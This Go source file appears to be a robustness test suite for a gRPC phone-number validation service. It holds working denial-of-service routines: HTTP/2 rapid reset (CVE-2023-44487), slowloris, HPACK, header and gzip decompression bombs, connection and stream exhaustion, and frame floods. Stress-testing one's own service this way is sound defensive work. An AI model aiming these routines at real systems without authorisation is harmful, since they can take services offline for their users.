package consistency

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/http"
	"runtime"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

const validPath = "/phonenumberservice.PhoneNumberService/Valid"

// repeat runs f in n goroutines, again and again until ctx ends, and returns the number of runs.
func repeat(ctx context.Context, n int, f func()) int64 {
	var done atomic.Int64
	var running sync.WaitGroup
	for range n {
		running.Go(func() {
			// A real attacker has its own machine, so the attack must not take CPU time from the
			// service.
			runtime.LockOSThread()
			syscall.Setpriority(syscall.PRIO_PROCESS, 0, 19)
			for ctx.Err() == nil {
				f()
				done.Add(1)
			}
		})
	}
	running.Wait()
	return done.Load()
}

// connect dials and writes data. It returns nil if that fails.
func connect(ctx context.Context, addr, data string) net.Conn {
	c, err := (&net.Dialer{Timeout: time.Second}).DialContext(ctx, "tcp", addr)
	if err != nil {
		time.Sleep(10 * time.Millisecond)
		return nil
	}
	deadline, _ := ctx.Deadline()
	c.SetDeadline(deadline)
	if _, err := io.WriteString(c, data); err != nil {
		c.Close()
		return nil
	}
	return c
}

func callHeaders(more ...hpack.HeaderField) []byte {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	path := hpack.HeaderField{Name: ":path", Value: validPath}
	if len(more) > 0 && more[0].Name == ":path" {
		path, more = more[0], more[1:]
	}
	for _, f := range append([]hpack.HeaderField{
		{Name: ":method", Value: "POST"},
		{Name: ":scheme", Value: "http"},
		path,
		{Name: ":authority", Value: "x"},
		{Name: "content-type", Value: "application/grpc"},
		{Name: "te", Value: "trailers"},
		{Name: "grpc-timeout", Value: "99999999H"},
	}, more...) {
		e.WriteField(f)
	}
	return b.Bytes()
}

// frame returns a gRPC message with its prefix.
func frame(compressed byte, message []byte) []byte {
	return append(binary.BigEndian.AppendUint32([]byte{compressed}, uint32(len(message))), message...)
}

// gzipped returns size zeros, compressed.
func gzipped(size int) []byte {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	w.Write(make([]byte, size))
	w.Close()
	return b.Bytes()
}

// discard reads and discards the data of the peer.
func discard(c net.Conn) { go io.Copy(io.Discard, c) }

// startHTTP2 begins an HTTP/2 connection and discards the data of the peer. The connection is nil
// if that fails.
func startHTTP2(ctx context.Context, addr string) (net.Conn, *http2.Framer) {
	c := connect(ctx, addr, http2.ClientPreface)
	if c == nil {
		return nil, nil
	}
	discard(c)
	f := http2.NewFramer(c, nil)
	f.WriteSettings()
	return c, f
}

// rapidReset begins calls and resets them at once, with and without their message
// (CVE-2023-44487).
func rapidReset(ctx context.Context, addr string) string {
	var resets atomic.Int64
	message := frame(0, []byte("\x0a\x0b18600000000\x12\x06000000"))
	headers := callHeaders()
	connections := repeat(ctx, 2, func() {
		c, framer := startHTTP2(ctx, addr)
		if c == nil {
			return
		}
		defer c.Close()
		for id := uint32(1); id < 1<<30 && ctx.Err() == nil; id += 2 {
			if framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: headers, EndHeaders: true}) != nil {
				return
			}
			if id%4 == 1 {
				framer.WriteData(id, true, message)
			}
			if framer.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
				return
			}
			resets.Add(1)
		}
	})
	return fmt.Sprintf("%d resets on %d connections", resets.Load(), connections)
}

// silentConnections opens connections and sends nothing.
func silentConnections(ctx context.Context, addr string) string {
	const silent = 200
	var closed atomic.Int64
	var open sync.WaitGroup
	for range silent {
		open.Go(func() {
			c := connect(ctx, addr, "")
			if c == nil {
				return
			}
			defer c.Close()
			if _, err := c.Read(make([]byte, 1)); errors.Is(err, io.EOF) {
				closed.Add(1)
			}
		})
	}
	open.Wait()
	<-ctx.Done()
	return fmt.Sprintf("%d of %d closed by the service", closed.Load(), silent)
}

// slowLoris sends the headers or the bodies of HTTP/1.1 requests one byte at a time.
func slowLoris(ctx context.Context, addr string) string {
	requests := repeat(ctx, 200, func() {
		begin := "POST " + validPath + " HTTP/1.1\r\nHost: x\r\n"
		if rand.N(2) == 0 {
			begin += "Content-Type: application/json\r\nContent-Length: 4000\r\n\r\n{"
		}
		c := connect(ctx, addr, begin)
		if c == nil {
			return
		}
		defer c.Close()
		for {
			if _, err := io.WriteString(c, "x"); err != nil {
				return
			}
			select {
			case <-time.After(100 * time.Millisecond):
			case <-ctx.Done():
				return
			}
		}
	})
	return fmt.Sprintf("%d requests", requests)
}

// headerBombs sends endless headers over HTTP/1.1, and over HTTP/2 in one frame and in many. It also
// sends few bytes that decompress to long headers (HPACK bomb).
func headerBombs(ctx context.Context, addr string) string {
	long := strings.Repeat("x", 4000)
	table := callHeaders(hpack.HeaderField{Name: "bomb", Value: long})
	kinds := []func(f *http2.Framer) error{
		func(f *http2.Framer) error {
			for id := uint32(1); id < 1000; id += 2 {
				block := callHeaders(hpack.HeaderField{Name: "long", Value: long}, hpack.HeaderField{Name: "longer", Value: long},
					hpack.HeaderField{Name: "longest", Value: long})
				if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true}); err != nil {
					return err
				}
			}
			return nil
		},
		func(f *http2.Framer) error {
			if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: callHeaders()}); err != nil {
				return err
			}
			for {
				block := callHeaders(hpack.HeaderField{Name: "more", Value: long})
				if err := f.WriteContinuation(1, false, block); err != nil {
					return err
				}
			}
		},
		func(f *http2.Framer) error {
			if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: table, EndHeaders: true, EndStream: true}); err != nil {
				return err
			}
			for id := uint32(3); id < 1000; id += 2 { // each byte repeats the long header
				block := append(callHeaders(), bytes.Repeat([]byte{0xbe}, 10_000)...)
				if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true, EndStream: true}); err != nil {
					return err
				}
			}
			return nil
		},
	}
	var kind atomic.Int64
	bombs := repeat(ctx, 8, func() {
		k := int(kind.Add(1)) % (len(kinds) + 1)
		if k == len(kinds) {
			if c := connect(ctx, addr, "GET / HTTP/1.1\r\nHost: x\r\n"); c != nil {
				defer c.Close()
				discard(c)
				for {
					if _, err := io.WriteString(c, "X: "+long+"\r\n"); err != nil {
						return
					}
				}
			}
			return
		}
		if c, f := startHTTP2(ctx, addr); c != nil {
			defer c.Close()
			kinds[k](f)
		}
	})
	return fmt.Sprintf("%d bombs", bombs)
}

// messageBombs sends messages that are too long, that claim to be, or that are after decompression.
func messageBombs(ctx context.Context, addr string) string {
	packed := gzipped(64 << 20)
	bodies := [][]byte{
		binary.BigEndian.AppendUint32([]byte{0}, 1<<31),
		frame(0, make([]byte, 1<<20)),
		frame(1, packed),
	}
	var kind atomic.Int64
	bombs := repeat(ctx, 8, func() {
		k := int(kind.Add(1)) % (len(bodies) + 1)
		if k == len(bodies) {
			q, err := http.NewRequestWithContext(ctx, http.MethodPost, "http://"+addr+validPath, bytes.NewReader(packed))
			if err != nil {
				return
			}
			q.Header.Set("Content-Type", "application/json")
			q.Header.Set("Content-Encoding", "gzip")
			if res, err := http.DefaultClient.Do(q); err == nil {
				io.Copy(io.Discard, res.Body)
				res.Body.Close()
			}
			return
		}
		c, f := startHTTP2(ctx, addr)
		if c == nil {
			return
		}
		defer c.Close()
		headers := callHeaders(hpack.HeaderField{Name: "grpc-encoding", Value: "gzip"})
		for id := uint32(1); id < 200; id += 2 {
			f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: headers, EndHeaders: true})
			for body := range slices.Chunk(bodies[k], 16<<10) {
				if f.WriteData(id, false, body) != nil {
					return
				}
			}
		}
	})
	return fmt.Sprintf("%d bombs", bombs)
}

// openedAndDropped opens connections and closes them at once.
func openedAndDropped(ctx context.Context, addr string) string {
	const all = 10_000
	var begun atomic.Int64
	var dropping sync.WaitGroup
	for range 50 {
		dropping.Go(func() {
			for i := begun.Add(1); i <= all && ctx.Err() == nil; i = begun.Add(1) {
				c := connect(ctx, addr, []string{"", "P", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "POST "}[i%4])
				if c == nil {
					continue
				}
				if i%2 == 0 {
					c.(*net.TCPConn).SetLinger(0) // closes with a reset
				}
				c.Close()
			}
		})
	}
	dropping.Wait()
	n := min(begun.Load(), all)
	<-ctx.Done()
	return fmt.Sprintf("%d connections", n)
}

// garbage sends random bytes, after nothing or after the beginning of a protocol.
func garbage(ctx context.Context, addr string) string {
	connections := repeat(ctx, 20, func() {
		random := make([]byte, 1+rand.N(4000))
		for i := range random {
			random[i] = byte(rand.N(256))
		}
		c := connect(ctx, addr, []string{
			"", "PRI", http2.ClientPreface, "\x16\x03\x01\x02\x00",
			"POST " + validPath + " HTTP/1.1\r\n",
		}[rand.N(5)]+string(random))
		if c == nil {
			return
		}
		defer c.Close()
		c.SetReadDeadline(time.Now().Add(500 * time.Millisecond))
		io.Copy(io.Discard, c)
	})
	return fmt.Sprintf("%d connections", connections)
}

// webNonsense sends invalid gRPC-Web, Connect and gRPC requests over HTTP/1.1.
func webNonsense(ctx context.Context, addr string) string {
	bodies := [][]byte{nil, {0}, frame(0, nil), frame(0x80, []byte("grpc-status: 0\r\n")), binary.BigEndian.AppendUint32([]byte{0}, 1<<31), frame(1, []byte("no gzip")), frame(0xff, make([]byte, 8000)), bytes.Repeat(frame(0, []byte("\x0a\x01x")), 500)}
	types := []string{
		"application/grpc-web", "application/grpc-web+proto", "application/grpc-web-text", "application/grpc-web+json",
		"application/grpc", "application/connect+proto", "application/proto",
	}
	requests := repeat(ctx, 8, func() {
		q, err := http.NewRequestWithContext(ctx, http.MethodPost, "http://"+addr+validPath, bytes.NewReader(bodies[rand.N(len(bodies))]))
		if err != nil {
			return
		}
		q.Header.Set("Content-Type", types[rand.N(len(types))])
		q.Header.Set("Grpc-Timeout", []string{"1n", "99999999H", "x", "-1S"}[rand.N(4)])
		if res, err := http.DefaultClient.Do(q); err == nil {
			io.Copy(io.Discard, res.Body)
			res.Body.Close()
		}
	})
	return fmt.Sprintf("%d requests", requests)
}

// manyStreams opens connections, then ten streams on each, then 118 more, and repeats this if all end.
func manyStreams(ctx context.Context, addr string, connections int, open func(f *http2.Framer, id uint32) error) string {
	var streams, closed atomic.Int64
	repeat(ctx, 64, func() {
		var mine []net.Conn
		var framers []*http2.Framer
		defer func() {
			for _, c := range mine {
				c.Close()
			}
		}()
		for range connections / 64 {
			c := connect(ctx, addr, http2.ClientPreface)
			if c == nil {
				return
			}
			mine = append(mine, c)
			f := http2.NewFramer(c, c)
			framers = append(framers, f)
			f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
			go func() { // acknowledges pings, as a real peer
				for {
					g, err := f.ReadFrame()
					if err != nil {
						closed.Add(1)
						return
					}
					if ping, ok := g.(*http2.PingFrame); ok && !ping.IsAck() {
						f.WritePing(true, ping.Data)
					}
				}
			}()
		}
		for first, end := uint32(1), uint32(21); first < end; first, end = end, 256 {
			for _, f := range framers {
				for id := first; id < end; id += 2 {
					if open(f, id) != nil {
						break
					}
					streams.Add(1)
				}
			}
		}
		<-ctx.Done()
	})
	return fmt.Sprintf("%d streams on %d connections, of which %d were closed", streams.Load(), connections/64*64, closed.Load())
}

// unreadReplies makes calls and never reads the replies: the peer's window stays at zero.
func unreadReplies(ctx context.Context, addr string) string {
	health := healthHeaders()
	return manyStreams(ctx, addr, 1900, func(f *http2.Framer, id uint32) error {
		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: health, EndHeaders: true}); err != nil {
			return err
		}
		return f.WriteData(id, true, frame(0, nil))
	})
}

// halfOpenCalls begins calls and health checks with the longest headers, and never sends the message.
func halfOpenCalls(ctx context.Context, addr string) string {
	long := hpack.HeaderField{Name: "long", Value: strings.Repeat("x", 7000)}
	headers := [][]byte{callHeaders(long), healthHeaders(long)}
	return manyStreams(ctx, addr, 1900, func(f *http2.Framer, id uint32) error {
		return f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: headers[id/2%2], EndHeaders: true})
	})
}

// halfOpenAfterHealthChecks makes cheap calls that end, which gives a connection more streams. Then it
// begins calls with many short headers, which are large in memory, and never sends the message.
func halfOpenAfterHealthChecks(ctx context.Context, addr string) string {
	var fields []hpack.HeaderField
	for i := range 200 {
		fields = append(fields, hpack.HeaderField{Name: fmt.Sprintf("%02x", i)})
	}
	health, many, unknownService := healthHeaders(), callHeaders(fields...), frame(0, []byte("\x0a\x01x"))
	return manyStreams(ctx, addr, 1900, func(f *http2.Framer, id uint32) error {
		if id > 20 {
			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: many, EndHeaders: true})
		}
		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: health, EndHeaders: true}); err != nil {
			return err
		}
		return f.WriteData(id, true, unknownService)
	})
}

func healthHeaders(more ...hpack.HeaderField) []byte {
	return callHeaders(append([]hpack.HeaderField{{Name: ":path", Value: "/grpc.health.v1.Health/Check"}}, more...)...)
}

// frameFloods sends frames without a valid call: SETTINGS, PING acks, PRIORITY, WINDOW_UPDATE, empty
// DATA and CONTINUATION, calls of unknown methods, and trailers instead of a message.
func frameFloods(ctx context.Context, addr string) string {
	headers := callHeaders()
	unknown := callHeaders(hpack.HeaderField{Name: ":path", Value: "/no.Service/Method"})
	kinds := []func(f *http2.Framer, i uint32) error{
		func(f *http2.Framer, i uint32) error {
			return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: i % 2 * 65535})
		},
		func(f *http2.Framer, i uint32) error {
			return f.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: i % 2 * 4096})
		},
		func(f *http2.Framer, _ uint32) error { return f.WritePing(true, [8]byte{}) },
		func(f *http2.Framer, i uint32) error { return f.WritePriority(2*i+1, http2.PriorityParam{}) },
		func(f *http2.Framer, _ uint32) error { return f.WriteWindowUpdate(0, 1) },
		func(f *http2.Framer, i uint32) error {
			if i == 0 {
				return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: headers, EndHeaders: true})
			}
			return f.WriteData(1, false, nil)
		},
		func(f *http2.Framer, i uint32) error {
			if i == 0 {
				return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: headers})
			}
			return f.WriteContinuation(1, false, nil)
		},
		func(f *http2.Framer, i uint32) error {
			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*i + 1, BlockFragment: unknown, EndHeaders: true, EndStream: true})
		},
		func(f *http2.Framer, i uint32) error {
			for _, end := range []bool{false, true} {
				if err := f.WriteHeaders(http2.HeadersFrameParam{
					StreamID: 2*i + 1, BlockFragment: headers, EndHeaders: true,
					EndStream: end,
				}); err != nil {
					return err
				}
			}
			return nil
		},
	}
	var kind, frames atomic.Int64
	connections := repeat(ctx, 9, func() {
		write := kinds[int(kind.Add(1))%len(kinds)]
		c, f := startHTTP2(ctx, addr)
		if c == nil {
			return
		}
		defer c.Close()
		for i := uint32(0); i < 1<<30 && ctx.Err() == nil && write(f, i) == nil; i++ {
			frames.Add(1)
		}
	})
	return fmt.Sprintf("%d frames on %d connections", frames.Load(), connections)
}
